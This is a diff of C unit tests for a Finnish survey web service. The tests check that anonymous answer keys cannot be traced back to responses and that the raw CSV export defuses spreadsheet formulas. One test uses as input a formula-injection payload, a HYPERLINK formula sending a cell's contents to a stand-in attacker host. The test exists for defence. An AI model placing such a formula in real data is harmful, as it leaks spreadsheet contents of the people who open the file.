@@ -13,10 +13,13 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <jansson.h>
 #include "testsrv.h"
+#include "csvread.h"
 #include "accounts/accounts.h"
 #include "util/arena.h"
+#include "surveys/surveys.h"
 
 static testsrv srv;
 #define STAFF "koordinaattori@kohtaamo.example"
@@ -781,6 +784,112 @@ static void one_anonymous_answer_per_person_and_nothing_leads_back(void **state)
     tclient_free(&c);
 }
 
+/* One respondent answers the whole one-page survey built by build_survey. */
+static void answer_as(const char *email, const built *b)
+{
+    tclient c;
+    tclient_init(&c, &srv);
+    login_as(&c, "fi", email, PASSWORD);
+    const char *path = fmt("/fi/surveys/%s", b->slug);
+    tresp r;
+    http_get(&c, path, NULL, &r);
+    assert_int_equal(r.status, 200);
+    char *token = hidden_value(&r, "token");
+    tresp_free(&r);
+    const char *const all[] = {"token", token, "page", "0", "action", "next", fmt("q%lld", (long long)b->q1),
+                               fmt("%lld", (long long)b->yes), fmt("q%lld", (long long)b->q2), "Hyvä palvelu",
+                               fmt("q%lld", (long long)b->q3), "4", NULL};
+    post(&c, path, path, all, &r);
+    assert_int_equal(r.status, 303);
+    tresp_free(&r);
+    free(token);
+    tclient_free(&c);
+}
+
+/* Two people answer, A then B. Someone reading the database knows the key
+ * secret (settings), so can tell whose each one-answer key is; nothing in
+ * the stored rows may then tell which response is whose: no time finer
+ * than the day, no column shared with the key row, and no order or
+ * transaction of the key rows that follows the responses. */
+static void answer_keys_keep_no_order_that_leads_to_the_responses(void **state)
+{
+    (void)state;
+    db *d = testsrv_db(&srv);
+    char err[256];
+    const char *people[] = {"vastaaja.a@example.org", "vastaaja.b@example.org"};
+    for (int i = 0; i < 2; i++)
+        if (account_create(d, people[i], "Vastaaja", PASSWORD, "resident", "fi", 1780000000, err, sizeof err) < 0) fail_msg("%s", err);
+    db_close(d);
+    tclient staff;
+    tclient_init(&staff, &srv);
+    login_as(&staff, "fi", STAFF, PASSWORD);
+    built b;
+    build_survey(&staff, "Järjestyksetön kysely", "registered", false, true, &b);
+    publish(&staff, &b);
+    tclient_free(&staff);
+    answer_as(people[0], &b);
+    answer_as(people[1], &b);
+    assert_int_equal(responses_of(&b), 2);
+
+    d = testsrv_db(&srv);
+    arena a;
+    arena_init(&a);
+    db_result res;
+    db_param sp[] = {DB_INT(b.id)};
+    /* the responses: the day only, no account */
+    assert_int_equal(db_query(d, &a, &res, "SELECT submitted_at, user_id FROM responses WHERE survey_id = $1", 1, sp), 0);
+    assert_int_equal(res.nrows, 2);
+    for (int i = 0; i < 2; i++) {
+        assert_int_equal(db_cell_int(&res, i, 0) % 86400, 0);
+        assert_null(db_cell(&res, i, 1));
+    }
+    /* the key rows: the survey and the keyed hash, nothing else */
+    db_result cols;
+    db_param kt[] = {DB_TEXT("survey_answer_keys")};
+    if (db_kind_of(d) == DB_SQLITE)
+        assert_int_equal(db_query(d, &a, &cols, "SELECT name FROM pragma_table_info($1) ORDER BY name", 1, kt), 0);
+    else
+        assert_int_equal(db_query(d, &a, &cols, "SELECT column_name FROM information_schema.columns WHERE table_schema = "
+                                                "current_schema() AND table_name = $1 ORDER BY column_name", 1, kt), 0);
+    assert_int_equal(cols.nrows, 2);
+    assert_string_equal(db_cell(&cols, 0, 0), "key_hash");
+    assert_string_equal(db_cell(&cols, 1, 0), "survey_id");
+
+    db_result stored, sorted;
+    assert_int_equal(db_query(d, &a, &sorted, "SELECT key_hash FROM survey_answer_keys WHERE survey_id = $1 ORDER BY key_hash", 1, sp), 0);
+    assert_int_equal(sorted.nrows, 2);
+    if (db_kind_of(d) == DB_SQLITE) {
+        /* no rowid numbering the keys in the order they were written */
+        assert_int_not_equal(db_query(d, &a, &res, "SELECT rowid FROM survey_answer_keys", 0, NULL), 0);
+        assert_int_equal(db_query(d, &a, &stored, "SELECT key_hash FROM survey_answer_keys WHERE survey_id = $1", 1, sp), 0);
+    } else {
+        /* each key was written in its response's transaction; the hourly
+         * rewrite gives the keys one transaction and the hash's order */
+        assert_true(survey_answer_keys_unlink(d, (int64_t)time(NULL)) >= 2);
+        db_result kx, rx;
+        assert_int_equal(db_query(d, &a, &kx, "SELECT DISTINCT xmin::text FROM survey_answer_keys WHERE survey_id = $1", 1, sp), 0);
+        assert_int_equal(kx.nrows, 1);
+        assert_int_equal(db_query(d, &a, &rx, "SELECT xmin::text FROM responses WHERE survey_id = $1", 1, sp), 0);
+        assert_int_equal(rx.nrows, 2);
+        for (int i = 0; i < 2; i++) assert_string_not_equal(db_cell(&rx, i, 0), db_cell(&kx, 0, 0));
+        assert_int_equal(db_query(d, &a, &stored, "SELECT key_hash FROM survey_answer_keys WHERE survey_id = $1 ORDER BY ctid", 1, sp), 0);
+    }
+    assert_int_equal(stored.nrows, 2);
+    for (int i = 0; i < 2; i++) assert_string_equal(db_cell(&stored, i, 0), db_cell(&sorted, i, 0));
+    /* and still one answer each */
+    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_answer_keys WHERE survey_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.id)), 2);
+    arena_free_all(&a);
+    db_close(d);
+    tclient c;
+    tclient_init(&c, &srv);
+    login_as(&c, "fi", people[0], PASSWORD);
+    tresp r;
+    http_get(&c, fmt("/fi/surveys/%s", b.slug), NULL, &r);
+    assert_true(body_has(&r, "Olet jo vastannut tähän kyselyyn"));
+    tresp_free(&r);
+    tclient_free(&c);
+}
+
 static void identified_answers_keep_the_account_and_preview_saves_nothing(void **state)
 {
     (void)state;
@@ -832,6 +941,7 @@ static void identified_answers_keep_the_account_and_preview_saves_nothing(void *
     login_as(&c, "fi", RESIDENT, PASSWORD);
     const char *path = fmt("/fi/surveys/%s", b.slug);
     http_get(&c, path, NULL, &r);
+    assert_int_equal(r.status, 200);
     assert_false(body_has(&r, "Vastauksesi ovat nimettömiä"));
     char *token = hidden_value(&r, "token");
     tresp_free(&r);
@@ -843,6 +953,68 @@ static void identified_answers_keep_the_account_and_preview_saves_nothing(void *
     tclient_free(&c);
     assert_int_equal(scalar("SELECT COUNT(*) FROM responses r JOIN users u ON u.id = r.user_id "
                             "WHERE r.survey_id = CAST($1 AS INTEGER) AND u.email = '" RESIDENT "'", fmt("%lld", (long long)b.id)), 1);
+}
+
+/* A resident's free-text answer that a spreadsheet would run as a formula
+ * comes out of raw.csv as text with an apostrophe in front; the scale answer
+ * stays a number. */
+static void raw_answers_csv_never_holds_a_live_formula(void **state)
+{
+    (void)state;
+    static const char EVIL[] = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")";
+    tclient staff;
+    tclient_init(&staff, &srv);
+    login_as(&staff, "fi", STAFF, PASSWORD);
+    built b;
+    build_survey(&staff, "Kaavakoe", "registered", false, true, &b);
+    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b.id);
+    tresp r;
+    const char *const identified[] = {"title_fi", "Kaavakoe", "title_sv", "Formeltest", "audience", "registered",
+                                      "anonymity", "identified", "kind", "survey", NULL};
+    post(&staff, edit, edit, identified, &r);
+    assert_int_equal(r.status, 303);
+    tresp_free(&r);
+    publish(&staff, &b);
+
+    tclient c;
+    tclient_init(&c, &srv);
+    login_as(&c, "fi", RESIDENT, PASSWORD);
+    const char *path = fmt("/fi/surveys/%s", b.slug);
+    http_get(&c, path, NULL, &r);
+    char *token = hidden_value(&r, "token");
+    tresp_free(&r);
+    char q1[32], q2[32], q3[32], yes[32];
+    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
+    snprintf(q2, sizeof q2, "q%lld", (long long)b.q2);
+    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
+    snprintf(yes, sizeof yes, "%lld", (long long)b.yes);
+    const char *const ans[] = {"token", token, "page", "0", "action", "next", q1, yes, q2, EVIL, q3, "4", NULL};
+    post(&c, path, path, ans, &r);
+    assert_int_equal(r.status, 303);
+    tresp_free(&r);
+    free(token);
+    tclient_free(&c);
+
+    http_get(&staff, fmt("%s/results/raw.csv", edit), NULL, &r);
+    assert_int_equal(r.status, 200);
+    assert_memory_equal(r.body.data, "\xEF\xBB\xBF", 3);
+    const char *p = r.body.data + 3, *end = r.body.data + r.body.len;
+    char **head, **row;
+    int nh = csv_read_record(&p, end, &head);
+    assert_int_equal(nh, 9);   /* 6 columns about the response, 3 questions */
+    assert_string_equal(head[7], "2. Mikä palvelussa toimi hyvin?");
+    assert_int_equal(csv_read_record(&p, end, &row), 9);
+    assert_string_equal(row[6], "Kyllä");
+    assert_string_equal(row[7], "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")");
+    assert_string_equal(row[8], "4");
+    assert_true(p == end);   /* one response */
+    csv_fields_free(head, nh);
+    csv_fields_free(row, 9);
+    /* the raw text holds no cell that starts with the formula */
+    assert_false(body_has(&r, ",\"=HYPERLINK"));
+    assert_false(body_has(&r, ",=HYPERLINK"));
+    tresp_free(&r);
+    tclient_free(&staff);
 }
 
 static void demo_surveys_open_to_their_audiences(void **state)
@@ -864,6 +1036,7 @@ static void demo_surveys_open_to_their_audiences(void **state)
     assert_true(body_has(&r, "Sida 1 av 2"));
     tresp_free(&r);
     http_get(&c, "/fi/surveys", NULL, &r);
+    assert_int_equal(r.status, 200);
     assert_true(body_has(&r, "Asiakaskysely: perhekeskusten palvelut 2026"));
     assert_false(body_has(&r, "Henkilöstön hyvinvointikysely"));
     tresp_free(&r);
@@ -1068,7 +1241,9 @@ int main(void)
         cmocka_unit_test(twenty_parallel_posts_of_one_form_make_one_response),
         cmocka_unit_test(audiences_are_checked),
         cmocka_unit_test(one_anonymous_answer_per_person_and_nothing_leads_back),
+        cmocka_unit_test(answer_keys_keep_no_order_that_leads_to_the_responses),
         cmocka_unit_test(identified_answers_keep_the_account_and_preview_saves_nothing),
+        cmocka_unit_test(raw_answers_csv_never_holds_a_live_formula),
         cmocka_unit_test(demo_surveys_open_to_their_audiences),
         cmocka_unit_test(counts_stay_equal_to_a_fresh_count_of_the_answers),
     };
